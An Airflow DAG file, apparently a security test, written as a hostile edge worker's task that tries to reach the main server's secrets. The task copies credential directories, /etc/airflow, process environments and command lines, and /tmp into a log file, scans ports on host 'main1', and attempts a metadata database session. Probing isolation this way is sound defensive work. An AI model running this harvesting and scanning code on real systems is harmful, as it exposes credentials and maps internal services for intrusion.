"""A DAG of somebody who may write DAGs for the edge, and who looks for the main server's secrets."""

from airflow.sdk import dag, task


@task(executor="EdgeExecutor", queue="edge_queue", retries=0)
def look(ports: list[int], path: str) -> dict:
    """Copy what this user can read of files, environments and command lines to `path`; try main1's doors."""
    import socket
    from pathlib import Path

    with open(path, "wb") as found:  # noqa: PTH123
        for pattern in (
            "etc/airflow/*",
            "run/credentials/**/*",
            "proc/[0-9]*/environ",
            "proc/[0-9]*/cmdline",
            "tmp/**/*",
        ):
            for file in Path("/").glob(pattern):
                try:
                    found.write(file.read_bytes() + b"\n")
                except OSError:
                    continue
    opened = []
    for port in ports:
        try:
            socket.create_connection(("main1", port), timeout=3).close()
        except OSError:
            continue
        opened.append(port)
    try:
        from airflow.utils.session import create_session

        with create_session() as session:
            session.connection()
        database = "opened"
    except Exception as error:
        database = type(error).__name__
    return {"opened": opened, "database": database}


@dag(schedule=None)
def hostile():
    look(
        [22, 80, 111, 443, 2049, 3306, 6379, 8080, 8793, 8794, 8974, 9000, 33060],
        "/opt/airflow/logs/found",
    )


hostile()
